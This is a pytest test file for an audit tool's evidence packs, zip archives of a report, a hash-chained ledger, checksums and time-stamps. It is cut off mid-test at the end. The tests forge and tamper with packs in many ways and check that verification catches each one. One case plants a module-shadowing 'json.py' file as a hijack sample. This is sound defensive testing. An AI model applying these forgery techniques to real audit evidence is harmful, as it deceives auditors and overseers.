"""An evidence pack of a real audit: made, checked by our software, and checked by a stranger with none of it."""

import contextlib
import hashlib
import json
import re
import shutil
import struct
import subprocess
import sys
import textwrap
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from cryptography.hazmat.primitives.asymmetric import ec, ed25519, rsa
from cryptography.hazmat.primitives.serialization import (
    BestAvailableEncryption,
    Encoding,
    NoEncryption,
    PrivateFormat,
    PublicFormat,
)
from support import two_registries, warm
from support.ledgers import checkpointed_copy, note
from support.registry import Registry
from support.servers import sqlite_store
from support.timestamps import Authority, timestamp_authority, unasked_for_a_certificate, with_status

from registry_audit.evidence.instructions import STAMPED
from registry_audit.evidence.pack import make_pack, make_statement, statement_bytes
from registry_audit.evidence.verifying import verify_pack
from registry_audit.ledger.chain import link
from registry_audit.ledger.connecting import open_ledger
from registry_audit.report.document import AuditDocument
from registry_audit.report.write import rendered

CLEAN, BROKEN, USAGE, NOT_CHECKED = 0, 1, 2, 3


@dataclass(frozen=True, slots=True)
class Made:
    report: Path
    ledger: str
    directory: Path
    name: str
    store: str  # address of the registry
    separate: Path  # a registry model that is a copy of its own

    def command(self, *arguments: str) -> subprocess.CompletedProcess[str]:
        command = [sys.executable, "-m", "registry_audit", *arguments]
        return warm.run(command, capture_output=True, text=True, cwd=self.directory)

    def later(self) -> Path:
        """The pack of an audit that found one of two copies changed; the copy is as it was when it ends."""
        report, file = self.directory / "later", self.separate / "model.pkl"
        content = file.read_bytes()
        accepted = ["baseline", "accept", f"{self.name}/3", "--reason", "seen", "--by", "the owners"]
        self.command(*accepted, "--tracking-uri", self.store, "--ledger", self.ledger)
        file.write_bytes(b"other" + content)
        self.command("audit", "--tracking-uri", self.store, "--ledger", self.ledger, "--report-dir", str(report))
        file.write_bytes(content)
        pack = self.directory / "later.zip"
        done = self.run(str(report / "audit.json"), "-o", str(pack), "--ledger", self.ledger)
        assert done.returncode == 0, done.stderr
        return pack

    def run(self, *arguments: str) -> subprocess.CompletedProcess[str]:
        command = [sys.executable, "-m", "registry_audit", "evidence", *arguments]
        return warm.run(command, capture_output=True, text=True, cwd=self.directory)

    def pack(self, output: Path, *options: str) -> Path:
        done = self.run(str(self.report), "-o", str(output), "--ledger", self.ledger, *options)
        assert done.returncode == 0, done.stderr
        return output


@pytest.fixture(scope="module")
def made(tmp_path_factory: pytest.TempPathFactory) -> Made:
    directory = tmp_path_factory.mktemp("evidence")
    store = sqlite_store(directory)
    registry = Registry(store)
    name = registry.new_name("Wine \\x00 Käse")  # which the ledger has in another spelling
    registry.add(name, seed=1, logged=registry.log_run_model(seed=1, files={"data/back\\slash.txt": b"x"}))
    separate = registry.add(name, seed=2, separate=True)
    registry.add(name, seed=3)
    ledger = f"sqlite:///{directory / 'ledger.db'}"
    command = [sys.executable, "-m", "registry_audit", "audit", "--tracking-uri", store.uri, "--ledger", ledger]
    for _ in range(2):  # the second audit's chain is longer than its own entries
        warm.run([*command, "--accept-new", "--report-dir", str(directory / "report")], capture_output=True)
    copy = store.artifacts.path(separate.reg_location)
    return Made(directory / "report" / "audit.json", ledger, directory, name, store.uri, copy)


@pytest.fixture(scope="module")
def authority(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Authority]:
    with timestamp_authority(tmp_path_factory.mktemp("tsa") / "one") as found:
        yield found


@pytest.fixture(scope="module")
def stamped(made: Made, authority: Authority) -> Path:
    return made.pack(made.directory / "stamped.zip", "--timestamp-url", authority.url)


def test_a_pack_holds(made: Made, stamped: Path, authority: Authority) -> None:
    done = made.run("verify", str(stamped), "--tsa-certificates", str(authority.certificates))
    assert done.returncode == CLEAN, done.stdout
    assert "The pack holds." in done.stdout
    assert "the authority says that the statement existed at" in done.stdout


def test_what_could_not_be_checked_is_said(made: Made, stamped: Path) -> None:
    done = made.run("verify", str(stamped))
    assert done.returncode == NOT_CHECKED
    assert "? who made the time-stamp" in done.stdout


def test_the_same_audit_gives_the_same_bytes(made: Made, tmp_path: Path) -> None:
    first, second = made.pack(tmp_path / "one.zip"), made.pack(tmp_path / "two.zip")
    assert first.read_bytes() == second.read_bytes()
    done = made.run("verify", str(first))
    assert done.returncode == CLEAN
    assert "no time-stamp" in done.stdout


def test_a_pack_of_large_files_holds(made: Made, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Beyond 2 GiB, which a ledger of some million entries takes, a zip has its numbers in other places."""
    monkeypatch.setattr(zipfile, "ZIP64_LIMIT", 1_000)
    pack = tmp_path / "large.zip"
    with contextlib.closing(open_ledger(made.ledger, create=False)) as ledger:
        make_pack(made.report, ledger, pack)
    with zipfile.ZipFile(pack) as archive:
        assert {len(info.extra) for info in archive.infolist()} == {12, 20, 28}
    assert (verify_pack(pack).broken, verify_pack(pack).exit_status) == ([], CLEAN)
    content = bytearray(pack.read_bytes())
    with zipfile.ZipFile(pack) as archive:
        content[archive.start_dir + 46 + len("CHECK.txt") + 2] ^= 1  # of the extra field
    (tmp_path / "odd.zip").write_bytes(content)
    _must_not_hold(tmp_path / "odd.zip", "")


def test_a_ledger_whose_clock_was_ahead(made: Made, tmp_path: Path) -> None:
    """An honest audit after that is no forgery; but when it was, its ledger cannot tell."""
    ledger, report = f"sqlite:///{tmp_path / 'ledger.db'}", tmp_path / "report"
    checkpointed_copy(made.ledger, tmp_path / "ledger.db")
    with contextlib.closing(open_ledger(ledger, create=False)) as opened, opened.writing() as writer:
        writer.append_verbatim(link([note()], after=writer.head(), at="2099-01-01T00:00:00Z"))
    made.command("audit", "--tracking-uri", made.store, "--ledger", ledger, "--report-dir", str(report))
    done = made.run(str(report / "audit.json"), "-o", str(tmp_path / "pack.zip"), "--ledger", ledger)
    assert done.returncode == 0, done.stderr
    checked = verify_pack(tmp_path / "pack.zip")
    assert (checked.broken, checked.exit_status) == ([], NOT_CHECKED)
    (said,) = checked.not_checked
    assert said.startswith("when the audit was: ")


def test_the_statement_names_the_head_and_every_version(made: Made, stamped: Path) -> None:
    with zipfile.ZipFile(stamped) as archive:
        statement = json.loads(archive.read("statement.json"))
    report = json.loads(made.report.read_text())
    assert statement["_type"] == "https://in-toto.io/Statement/v1"
    subjects = {subject["name"]: subject["digest"] for subject in statement["subject"]}
    assert subjects["ledger head"] == {"sha256": report["ledger"]["head"]}
    for row in report["versions"]:
        digest = subjects[f"{row['name']}/{row['version']}"]
        assert f"sha256:{digest['sha256']}" == row["reg_model"]["manifest_digest"]
    assert statement["predicate"]["verificationResult"] in ("PASSED", "FAILED")
    assert statement["predicate"]["coverage"] == report["coverage"]


def test_a_pack_of_damaged_models_holds(tmp_path: Path) -> None:
    """Findings, a missing model and a lost copy: the report leaves out what the ledger records of nothing."""
    store = sqlite_store(tmp_path)
    registry = Registry(store)
    for damage in ("whole", "emptied", "changed", "lost-copy"):
        version = registry.add(damage, seed=1, separate=damage == "lost-copy")
        with store.artifacts.edit(version.reg_location) as directory:
            for file in directory.rglob("*"):
                if file.is_file() and damage in ("emptied", "lost-copy"):
                    file.unlink()
    ledger, reports = f"sqlite:///{tmp_path / 'ledger.db'}", tmp_path / "report"
    command = [sys.executable, "-m", "registry_audit", "audit", "--tracking-uri", store.uri, "--ledger", ledger]
    done = warm.run([*command, "--accept-new", "--report-dir", str(reports)], capture_output=True)
    assert done.returncode == 1
    packed = Made(reports / "audit.json", ledger, tmp_path, "", store.uri, tmp_path).pack(tmp_path / "pack.zip")
    assert verify_pack(packed).broken == []


def _commands(text: str) -> str:
    """The indented blocks of CHECK.txt."""
    blocks = re.findall(r"(?:^    .*\n|^\n(?=    ))+", text, re.MULTILINE)
    return "set -e\n" + "\n".join(textwrap.dedent(block) for block in blocks)


def _by_a_stranger(
    pack: Path, directory: Path, authority: Authority | None, signer: Path | None = None
) -> subprocess.CompletedProcess[str]:
    """The commands of CHECK.txt, with Python's standard library and nothing of ours."""
    directory.mkdir()
    subprocess.run(["/usr/bin/env", "python3", "-m", "zipfile", "-e", str(pack), str(directory)], check=True)
    if authority is not None:
        (directory.parent / "tsa-ca.pem").write_bytes(authority.certificates.read_bytes())
    if signer is not None:
        shutil.copy(signer, directory.parent / "signer.pem")
    script = _commands((directory / "CHECK.txt").read_text())
    return subprocess.run(
        ["bash"], input=script, capture_output=True, text=True, check=False, cwd=directory,
        env={"PATH": "/usr/local/bin:/usr/bin:/bin", "PYTHONNOUSERSITE": "1"},
    )  # fmt: skip


def test_a_stranger_checks_it(stamped: Path, authority: Authority, tmp_path: Path) -> None:
    done = _by_a_stranger(stamped, tmp_path / "unpacked", authority)
    assert done.returncode == 0, done.stderr
    for said in ("the statement covers every file", "have the digests", "lead to the head", "Time stamp:"):
        assert said in done.stdout


@pytest.mark.parametrize(("stamp", "holds"), [("expired-since", True), ("expired-before", False), ("not-yet", False)])
def test_a_stranger_takes_the_authority_as_it_was_then(stamp: str, holds: bool, tmp_path: Path) -> None:
    """The stamps are golden: see `tests/unit/evidence/test_stamp.py`."""
    pack, stamps = tmp_path / "pack", Path(__file__).parents[1] / "golden" / "stamps"
    pack.mkdir()
    files = {"statement.txt": "statement.json", f"{stamp}.tsr": "statement.tsr", "tsa-ca.pem": "../tsa-ca.pem"}
    for name, place in files.items():
        shutil.copy(stamps / name, pack / place)
    script = _commands(STAMPED)
    done = subprocess.run(["bash"], input=script, capture_output=True, text=True, check=False, cwd=pack)
    assert (done.returncode == 0, "Verification: OK" in done.stdout) == (holds, holds), done.stderr
    assert ("Time stamp: Nov 28 " in done.stdout) == holds


def test_a_listing_checks_a_copy_of_the_model(made: Made, stamped: Path, tmp_path: Path) -> None:
    with zipfile.ZipFile(stamped) as archive:
        archive.extractall(tmp_path)
    report = json.loads(made.report.read_text())
    for row in report["versions"]:
        listing = tmp_path / "listings" / f"{row['reg_model']['manifest_digest'].replace(':', '-')}.sha256"
        command = ["sha256sum", "--quiet", "--strict", "-c", str(listing)]
        done = subprocess.run(command, cwd=row["reg_model"]["root"], capture_output=True, text=True, check=False)
        assert (done.returncode, done.stdout) == (0, "")


def _rewritten(pack: Path, output: Path, change: Callable[[str, bytes], bytes | None]) -> Path:
    """The pack with every file as the change makes it; None leaves it out."""
    with zipfile.ZipFile(pack) as old, zipfile.ZipFile(output, "w", zipfile.ZIP_DEFLATED) as new:
        for info in old.infolist():
            content = change(info.filename, old.read(info))
            if content is not None:
                new.writestr(info.filename, content)
    return output


def _flipped(part: str) -> Callable[[str, bytes], bytes | None]:
    def change(name: str, content: bytes) -> bytes | None:
        if not name.startswith(part):
            return content
        where = len(content) // 2
        return content[:where] + bytes([content[where] ^ 1]) + content[where + 1 :]

    return change


@pytest.mark.parametrize(
    "part",
    ["audit.json", "audit.html", "ledger.jsonl", "CHECK.txt", "SHA256SUMS", "statement", "manifests/", "listings/"],
)
def test_a_changed_pack_does_not_hold(
    made: Made, stamped: Path, authority: Authority, tmp_path: Path, part: str
) -> None:
    changed = _rewritten(stamped, tmp_path / "changed.zip", _flipped(part))
    done = made.run("verify", str(changed), "--tsa-certificates", str(authority.certificates))
    assert done.returncode == BROKEN, done.stdout
    assert "Traceback" not in done.stderr
    if part != "CHECK.txt":  # a stranger reads the CHECK.txt that was changed
        assert _by_a_stranger(changed, tmp_path / "unpacked", authority).returncode != 0


@pytest.mark.parametrize("left_out", ["ledger.jsonl", "SHA256SUMS", "manifests/", "listings/", "statement.json"])
def test_a_cut_pack_does_not_hold(made: Made, stamped: Path, tmp_path: Path, left_out: str) -> None:
    cut = _rewritten(stamped, tmp_path / "cut.zip", lambda name, data: None if name.startswith(left_out) else data)
    assert made.run("verify", str(cut)).returncode == BROKEN


def test_a_chain_that_was_cut_and_summed_anew_does_not_hold(made: Made, stamped: Path, tmp_path: Path) -> None:
    """Whoever sums anew what they changed still cannot make the chain lead to the head."""
    sums: dict[str, str] = {}

    def cut(name: str, content: bytes) -> bytes | None:
        if name == "ledger.jsonl":
            content = b"".join(content.splitlines(keepends=True)[1:])
        if name in ("statement.json", "statement.tsr", "SHA256SUMS"):
            return None
        sums[name] = hashlib.sha256(content).hexdigest()
        return content

    output = _rewritten(stamped, tmp_path / "cut.zip", cut)
    with zipfile.ZipFile(stamped) as old:
        statement = json.loads(old.read("statement.json"))
    text = "".join(f"{digest}  {name}\n" for name, digest in sorted(sums.items()))
    statement["predicate"]["pack"]["digest"]["sha256"] = hashlib.sha256(text.encode()).hexdigest()
    with zipfile.ZipFile(output, "a") as new:
        new.writestr("SHA256SUMS", text)
        new.writestr("statement.json", json.dumps(statement, indent=2, sort_keys=True) + "\n")
    done = made.run("verify", str(output))
    assert done.returncode == BROKEN
    assert "chain" in done.stdout


def test_a_stamp_of_something_else_or_of_another_authority(
    made: Made, stamped: Path, authority: Authority, tmp_path: Path
) -> None:
    other = tmp_path / "other.txt"
    other.write_text("something else")
    authority.stamp(other, tmp_path / "other.tsr")
    replaced = (tmp_path / "other.tsr").read_bytes()
    of_another_thing = _rewritten(
        stamped, tmp_path / "thing.zip", lambda name, data: replaced if name == "statement.tsr" else data
    )
    done = made.run("verify", str(of_another_thing))
    assert (done.returncode, "of something else" in done.stdout) == (BROKEN, True)

    with timestamp_authority(tmp_path / "two") as second:
        restamped = made.pack(tmp_path / "again.zip", "--timestamp-url", second.url)
    done = made.run("verify", str(restamped), "--tsa-certificates", str(authority.certificates))
    assert (done.returncode, "not made by an authority of" in done.stdout) == (BROKEN, True)


@pytest.mark.parametrize("status", [0, 1], ids=["granted", "grantedWithMods"])
def test_a_stamp_that_a_pack_is_made_with_holds(made: Made, tmp_path: Path, status: int) -> None:
    with timestamp_authority(tmp_path / "tsa", answer=lambda response: with_status(response, status)) as authority:
        pack = made.pack(tmp_path / "pack.zip", "--timestamp-url", authority.url)
    done = made.run("verify", str(pack), "--tsa-certificates", str(authority.certificates))
    assert (done.returncode, "the authority says that the statement existed at" in done.stdout) == (CLEAN, True)
    assert _by_a_stranger(pack, tmp_path / "unpacked", authority).returncode == 0


@pytest.mark.parametrize(
    ("changes", "said"),
    [
        ({"answer": lambda response: with_status(response, 2)}, "its answer is no granted time-stamp"),
        (
            {"answer": lambda response: response.replace(b"\x18\x0f", b"\x18\x0e", 1)},
            "its answer is no granted time-stamp",
        ),
        ({"answer": lambda response: b"0\x050\x03\x02\x01\x00"}, "its answer is no granted time-stamp"),
        ({"read": unasked_for_a_certificate}, "its answer lacks the certificate of whoever signed it"),
    ],
    ids=["rejected", "malformed", "no-token", "no-certificate"],
)
def test_a_stamp_that_would_not_hold_makes_no_pack(
    made: Made, tmp_path: Path, changes: dict[str, Callable[[bytes], bytes]], said: str
) -> None:
    output = tmp_path / "pack.zip"
    with timestamp_authority(tmp_path / "tsa", **changes) as authority:
        done = made.run(str(made.report), "-o", str(output), "--ledger", made.ledger, "--timestamp-url", authority.url)
    assert (done.returncode, said in done.stderr, "Traceback" in done.stderr) == (NOT_CHECKED, True, False), done.stderr
    assert not output.exists()


def _remade(
    pack: Path,
    output: Path,
    change: Callable[[dict[str, Any]], None],
    drop: str | None = None,
    page: str = "",
    commands: bytes = b"",
) -> Path:
    """The pack as somebody makes it anew who has our software: another report, and everything else to match it.

    Args:
        page: another audit.html than the report's own.
        commands: more of them for CHECK.txt.
    """
    with zipfile.ZipFile(pack) as old:
        files = {info.filename: old.read(info) for info in old.infolist() if info.filename != "statement.tsr"}
    report = json.loads(files["audit.json"])
    change(report)
    files["audit.json"] = json.dumps(report).encode()
    if drop is not None:
        files = {name: content for name, content in files.items() if drop.replace(":", "-") not in name}
    del files["SHA256SUMS"], files["statement.json"]
    document = AuditDocument.model_validate(report)
    files["CHECK.txt"] += commands
    files["audit.html"] = (page or "".join(rendered(document, "html"))).encode()
    summed = sorted(files.keys() - {"statement.dsse.json"})
    sums = "".join(f"{hashlib.sha256(files[name]).hexdigest()}  {name}\n" for name in summed).encode()
    digests = hashlib.sha256(files["audit.json"]).hexdigest(), hashlib.sha256(sums).hexdigest()
    files["SHA256SUMS"] = sums
    files["statement.json"] = statement_bytes(make_statement(document, report["ledger"]["head"], *digests))
    with zipfile.ZipFile(output, "w", zipfile.ZIP_DEFLATED) as new:
        for name, content in files.items():
            new.writestr(name, content)
    return output


def _swap(report: dict[str, Any]) -> None:
    one, _, two = report["versions"]
    for copy in ("run_model", "reg_model"):
        one[copy]["manifest_digest"], two[copy]["manifest_digest"] = (
            two[copy]["manifest_digest"], one[copy]["manifest_digest"],
        )  # fmt: skip


def _accepted_as_another(report: dict[str, Any]) -> None:
    one, _, two = report["versions"]
    assert (one["accepted_by"], two["accepted_by"]) != (two["accepted_by"],) * 2
    one.update({key: two[key] for key in ("accepted_at", "accepted_by", "accepted_reason")})


def _answered(report: dict[str, Any]) -> None:
    """An open finding that somebody is said to answer for."""
    waiver = {"by": "the board", "reason": "known", "until": "2999-12-31"}
    for row in report["versions"]:
        for finding in row["findings"]:
            finding["waived"] = waiver


def _milder(report: dict[str, Any]) -> None:
    for row in report["versions"]:
        for finding in row["findings"]:
            finding["severity"] = "low"


def _without_differences(report: dict[str, Any]) -> None:
    for row in report["versions"]:
        row["differences"] = []


def _finding(report: dict[str, Any]) -> None:
    report["versions"][0]["findings"].append(
        {"rule": "RA004", "name": "run-deleted", "severity": "high", "message": "m", "remedy": "r"}
    )


Change = Callable[[dict[str, Any]], None]


def _at(key: str, address: str) -> Change:
    """A report that names another place than the one audited."""
    return lambda report: report["registry"].update({key: address})


# How a report is forged, what our software says of it, and whether the commands of CHECK.txt notice, too.
FORGED: dict[str, tuple[Change, str, bool]] = {
    "verdict": (lambda r: r["versions"][0].update(verdict="match"), "another verdict of", True),
    "baseline": (lambda r: r["versions"][0].update(baseline="changed"), "another baseline of", True),
    "exit-status": (lambda r: r["outcome"].update(exit_status=0), "the ledger recorded 1", True),
    "listed": (lambda r: r["coverage"].update(listed=7), "says 7 versions, and the ledger recorded 3", False),
    "who-accepted": (
        lambda r: r["versions"][1].update(accepted_by="the board"), "as the ledger did not record it", False,
    ),
    "nobody-accepted": (
        lambda r: r["versions"][0].update(accepted_at=None, accepted_by=None, accepted_reason=None),
        "as the ledger did not record it", False,
    ),
    "accepted-by-others": (_accepted_as_another, "/1 was accepted as the ledger did not record it", False),
    "signature": (lambda r: r["versions"][0].update(signature_status="verified"), "another signature of", True),
    "more": (lambda r: r["versions"][0].update(certified_by="the board"), "says more than a report does", False),
    "more-of-it": (lambda r: r.update(certified=True), "says more than a report does", False),
    "swapped": (_swap, "another registry model, run model of", True),
    "findings": (_finding, "another findings of", True),
    "no-findings": (lambda r: [row.update(findings=[]) for row in r["versions"]], "another findings of", True),
    "severity": (_milder, "grades findings otherwise", False),
    "waiver": (_answered, "somebody answers for", False),
    "differences": (_without_differences, "another differences of", False),
    "run": (lambda r: r["versions"][0].update(run_id="f" * 32), "another run of", False),
    "options": (lambda r: r["options"].update(models=["W*"]), "other options than the ledger recorded", False),
    "date": (lambda r: r.update(generated_at="2031-01-01T00:00:00Z"), "is dated 2031", False),
    "registry": (lambda r: r["registry"].update(known_as="production"), "are of another registry", False),
    "unnamed-registry": (lambda r: r["registry"].update(known_as=None), "are of another registry", False),
    "registry-uri": (_at("registry_uri", "sqlite:////srv/production/mlflow.db"), "is of sqlite:////srv/prod", False),
    "registry-kind": (_at("registry_uri", "postgresql://prod-db/mlflow"), "is of postgresql://prod-db/mlflow", False),
    "registry-server": (_at("registry_uri", "https://mlflow.prod.example"), "is of https://mlflow.prod.example", False),
    "tracking-uri": (_at("tracking_uri", "https://mlflow.prod.example"), "is of https://mlflow.prod.example", False),
    "workspace": (_at("workspace", "production"), "recorded an audit of the default workspace", False),
    "storage": (lambda r: r["versions"][0].update(storage="separate"), "its verdict says otherwise", False),
    "sentence": (lambda r: r["summary"]["verdicts"].update(match=9), "another number of verdicts", False),
    "counted-findings": (lambda r: r["summary"].update(findings={}), "another number of findings", False),
    "counted-baselines": (lambda r: r["summary"].update(baseline={}), "another number of baselines", False),
    "audited": (lambda r: r["coverage"].update(audited=9), "another number of audited versions", False),
    "unverifiable": (lambda r: r["coverage"].update(unverifiable=9), "another number of unverifiable", False),
    "state": (lambda r: r["outcome"].update(state="clean"), "says that it ended clean", False),
    "size": (lambda r: r["versions"][0]["reg_model"].update(bytes=1), "another number of files or bytes", False),
}  # fmt: skip


def _must_not_hold(pack: Path, said: str) -> None:
    checked = verify_pack(pack)
    assert checked.exit_status == BROKEN
    assert any(said in sentence for sentence in checked.broken), checked


@pytest.fixture(scope="module")
def damaged(made: Made) -> Path:
    """The pack of a later audit, with findings and differences: one of two copies was changed."""
    return made.later()


@pytest.mark.parametrize("forged", FORGED)
def test_a_report_that_contradicts_its_ledger(damaged: Path, tmp_path: Path, forged: str) -> None:
    """A head that is known from elsewhere is enough to find a report that was changed, and everything with it."""
    change, said, by_commands = FORGED[forged]
    assert verify_pack(_remade(damaged, tmp_path / "same.zip", lambda report: None)).exit_status == CLEAN
    pack = _remade(damaged, tmp_path / "forged.zip", change)
    _must_not_hold(pack, said)
    assert (_by_a_stranger(pack, tmp_path / "unpacked", None).returncode != 0) == by_commands


def test_a_report_that_does_not_say_why_a_version_was_accepted(damaged: Path, tmp_path: Path) -> None:
    """As release 0.1.0 wrote them."""
    old = _remade(damaged, tmp_path / "old.zip", lambda r: [row.pop("accepted_reason") for row in r["versions"]])
    assert verify_pack(old).exit_status == CLEAN


# What the ledger does not hold, and only whoever made the pack vouches for. docs/evidence.md says so.
NOT_HELD = """
tool/name tool/version tool/mlflow tool/python
registry/mlflow_server ledger/url
coverage/only_listed coverage/not_read coverage/files_read coverage/bytes_read coverage/storages_read
changes/resolved changes/since history history/findings history/at history/exit_status history/listed history/audited
history/unverifiable history/findings/critical history/findings/high history/findings/medium
history/findings/low resolved
versions/status versions/stage versions/aliases versions/reason versions/storage versions/compared_by
versions/run_model/uri versions/run_model/root versions/reg_model/uri versions/reg_model/root
versions/differences/expected_by versions/baseline_differences/expected_by
versions/findings/name versions/findings/message versions/findings/remedy versions/findings/path
versions/findings/first_seen versions/accepted_now
versions/signature versions/signature_reason versions/read_at versions/last_read_at
versions/seconds versions/history versions/history/at versions/history/kind versions/history/what
""".split()  # noqa: SIM905 - one a word


def _values(found: Any, place: tuple[str | int, ...] = ()) -> Iterator[tuple[tuple[str | int, ...], Any]]:
    inside = found.items() if isinstance(found, dict) else enumerate(found) if isinstance(found, list) else ()
    for key, value in inside:
        yield (*place, key), value
        yield from _values(value, (*place, key))


def _others(value: Any) -> list[Any]:
    """Other values in its place, of which at least one may be a report's."""
    match value:
        case bool():
            return [not value]
        case int():
            return [value + 1, 0]
        case float() | None:
            return ["x", 0.5]
        case str():
            return ["x", "low", "accepted", "match", "content"]
        case _:
            return [type(value)()] if value else []


@pytest.mark.slow
def test_every_value_of_the_report_is_held_to_the_ledger_or_named(damaged: Path, tmp_path: Path) -> None:
    """Whoever forges a value makes everything else to match it, and has our software to do so."""
    with zipfile.ZipFile(damaged) as archive:
        report = json.loads(archive.read("audit.json"))
    held = set[str]()
    for place, value in _values(report):
        for other in _others(value):
            if other == value:
                continue

            def change(forged: dict[str, Any], place: Any = place, other: Any = other) -> None:
                inside: Any = forged
                for key in place[:-1]:
                    inside = inside[key]
                inside[place[-1]] = other

            try:
                forged = _remade(damaged, tmp_path / "forged.zip", change)
            except (ValueError, TypeError, KeyError, AttributeError):
                continue  # no report any more
            checked = verify_pack(forged)
            name = "/".join(key for key in place if isinstance(key, str))
            assert checked.broken or name in NOT_HELD or checked.exit_status == NOT_CHECKED, (name, value, other)
            if not checked.broken:
                held.add(name)
    assert len(held) > 10


def _summed_anew(files: dict[str, bytes], output: Path) -> Path:
    """A pack of these files, with sums and a statement that name them."""
    statement = json.loads(files.pop("statement.json"))
    summed = {name: content for name, content in files.items() if name not in ("SHA256SUMS", "statement.tsr")}
    sums = "".join(f"{hashlib.sha256(summed[name]).hexdigest()}  {name}\n" for name in sorted(summed)).encode()
    statement["predicate"]["pack"]["digest"]["sha256"] = hashlib.sha256(sums).hexdigest()
    with zipfile.ZipFile(output, "w") as archive:
        for name, content in (summed | {"SHA256SUMS": sums, "statement.json": statement_bytes(statement)}).items():
            archive.writestr(name, content)
    return output


def _other_statement(change: Change) -> Callable[[dict[str, bytes]], None]:
    def rewrite(files: dict[str, bytes]) -> None:
        statement = json.loads(files["statement.json"])
        change(statement)
        files["statement.json"] = statement_bytes(statement)

    return rewrite


def _subjects_swapped(statement: dict[str, Any]) -> None:
    first, second = statement["subject"][1:3]
    first["digest"], second["digest"] = second["digest"], first["digest"]


def _other_listing(files: dict[str, bytes]) -> None:
    name = next(name for name in files if name.startswith("listings/"))
    files[name] = hashlib.sha256(b"other").hexdigest().encode() + files[name][64:]


def _own_module(files: dict[str, bytes]) -> None:
    files["json.py"] = b"raise SystemExit(print('imported'))"


def _said_twice(files: dict[str, bytes]) -> None:
    files["audit.json"] = files["audit.json"].replace(b"{", b'{"versions": [],', 1)


def _listing_more(files: dict[str, bytes]) -> None:
    files[f"listings/sha256-{'0' * 64}.sha256"] = hashlib.sha256(b"other").hexdigest().encode() + b"  model.pkl\n"


def _entry_twice(files: dict[str, bytes]) -> None:
    files["ledger.jsonl"] = files["ledger.jsonl"].replace(b'"name": ', b'"name": "Other", "name": ', 1)


def _with_a_mark(files: dict[str, bytes]) -> None:
    files["audit.json"] = "\ufeff".encode() + files["audit.json"]


MADE_ANEW: dict[str, tuple[Callable[[dict[str, bytes]], None], str]] = {
    "subjects": (_other_statement(_subjects_swapped), "other digests than the report"),
    "coverage": (_other_statement(lambda s: s["predicate"]["coverage"].update(listed=900)), "another coverage"),
    "options": (
        _other_statement(lambda s: s["predicate"]["policy"]["options"].update(models=["W"])),
        "another options",
    ),
    "time": (_other_statement(lambda s: s["predicate"].update(timeVerified="2031-01-01T00:00:00Z")), "timeVerified"),
    "registry": (_other_statement(lambda s: s["predicate"].update(resourceUri="https://other")), "resourceUri"),
    "listing": (_other_listing, "not the list of"),
    "module": (_own_module, "files that no pack holds"),
    "twice": (_said_twice, "says something twice"),
    "listing-more": (_listing_more, "lists of files of no version"),
    "entry-twice": (_entry_twice, "a line says something else, or twice"),
    "byte-order-mark": (_with_a_mark, "BOM"),
    "more": (_other_statement(lambda s: s["predicate"].update(slsaResult="LEVEL_3")), "says more than the report"),
    "subject-twice": (_other_statement(lambda s: s["subject"].append(s["subject"][-1])), "says more than the report"),
    "subject-more": (_other_statement(lambda s: s["subject"][1].update(uri="urn:x")), "says more than the report"),
    "kind": (_other_statement(lambda s: s.update(predicateType="urn:x")), "of another kind"),
    "verifier": (_other_statement(lambda s: s["predicate"]["verifier"].update(id="urn:x")), "of another report"),
    "inputs": (_other_statement(lambda s: s["predicate"].update(inputs=[])), "of another report"),
}


@pytest.mark.parametrize("kind", MADE_ANEW)
def test_a_stranger_finds_what_was_made_anew(damaged: Path, tmp_path: Path, kind: str) -> None:
    """Whoever makes a pack anew makes its sums anew: what they hold is not what the ledger and the report say."""
    change, said = MADE_ANEW[kind]
    with zipfile.ZipFile(damaged) as archive:
        files = {info.filename: archive.read(info) for info in archive.infolist()}
    change(files)
    pack = _summed_anew(files, tmp_path / "anew.zip")
    done = _by_a_stranger(pack, tmp_path / "unpacked", None)
    assert (done.returncode != 0, said in done.stderr, "imported" in done.stdout) == (True, True, False), done.stderr
    assert verify_pack(pack).exit_status == BROKEN


@pytest.mark.parametrize(
    "written",
    [
        lambda sums: sums + sums.splitlines(keepends=True)[0],
        lambda sums: sums.replace(b"  ", b" *"),
        lambda sums: sums.replace(b"\n", b"\r\n"),
        lambda sums: sums.rstrip(b"\n"),
        lambda sums: b"# sums\n" + sums,
        lambda sums: b"".join(line[:64].upper() + line[64:] for line in sums.splitlines(keepends=True)),
    ],
    ids=["twice", "binary", "crlf", "no-end", "comment", "capitals"],
)
def test_sums_that_are_written_otherwise(damaged: Path, tmp_path: Path, written: Callable[[bytes], bytes]) -> None:
    """What one reader takes for a list of these files, and another perhaps not."""
    with zipfile.ZipFile(damaged) as archive:
        files = {info.filename: archive.read(info) for info in archive.infolist()}
    files["SHA256SUMS"] = written(files["SHA256SUMS"])
    digest = hashlib.sha256(files["SHA256SUMS"]).hexdigest()
    _other_statement(lambda s: s["predicate"]["pack"]["digest"].update(sha256=digest))(files)
    pack = _rewritten(damaged, tmp_path / "sums.zip", lambda name, _: files[name])
    assert verify_pack(pack).exit_status == BROKEN
    assert _by_a_stranger(pack, tmp_path / "unpacked", None).returncode != 0


def test_an_earlier_audit_under_the_newest_head(made: Made, damaged: Path, tmp_path: Path) -> None:
    """A report that passed, with a ledger that has gone on since, and found something."""
    first = made.pack(tmp_path / "first.zip")
    with zipfile.ZipFile(first) as one, zipfile.ZipFile(damaged) as other:
        chain, newest = other.read("ledger.jsonl"), json.loads(other.read("audit.json"))
        report = json.loads(one.read("audit.json"))
    report["ledger"], report["generated_at"] = (
        {**newest["ledger"], "audit_id": report["ledger"]["audit_id"]},
        newest["generated_at"],
    )
    for status, state in ((report["outcome"]["exit_status"], report["outcome"]["state"]), (3, "incomplete")):
        outcome = {"exit_status": status, "state": state}
        remade = _remade(
            first, tmp_path / "remade.zip", lambda r, o=outcome: r.update(report, outcome=r["outcome"] | o)
        )
        with zipfile.ZipFile(remade) as archive:
            files = {info.filename: archive.read(info) for info in archive.infolist()} | {"ledger.jsonl": chain}
        pack = _summed_anew(files, tmp_path / f"older-{status}.zip")
        _must_not_hold(pack, "does not say that the audit of audit.json came to its end")
        done = _by_a_stranger(pack, tmp_path / f"unpacked-{status}", None)
        assert (done.returncode != 0, "not the end of this audit" in done.stderr) == (True, True), done.stderr


def test_a_page_that_shows_something_else(damaged: Path, tmp_path: Path) -> None:
    page = zipfile.ZipFile(damaged).read("audit.html").decode().replace("mismatch", "match")
